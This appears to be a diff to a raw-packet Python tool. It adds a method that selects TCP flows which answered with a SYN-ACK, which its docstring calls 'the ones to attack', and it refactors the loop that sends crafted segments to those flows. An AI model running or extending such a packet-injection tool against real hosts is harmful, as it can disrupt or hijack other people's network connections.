@@ -338,21 +338,26 @@ class Client:
                          0x4000, self.args.ttl, 6, 0, self.src, self.dst)
         return ip + seg
 
+    def live(self):
+        """The flows whose handshake got a SYN-ACK: the ones to attack."""
+        return [f for f in self.flows.values() if f.rcv_nxt is not None]
+
     def run(self):
         a = self.args
         rnd = random.Random(a.seed)
         opened = self.open_set()
         order = list(range(256))
         t0 = time.time()
+        live = self.live()
         for i in range(a.count):
             if i and i % RESYNC == 0:
                 self.learn()
             if i and i % REOPEN == 0:
                 opened += self.open_set()
-            live = [f for f in self.flows.values() if f.rcv_nxt is not None]
-            f = live[i % len(live)] if live else None
-            if f is None:
+                live = self.live()
+            if not live:
                 break
+            f = live[i % len(live)]
             if i % 256 == 0:
                 rnd.shuffle(order)
             pkt = self.segment(rnd, f, order[i % 256])
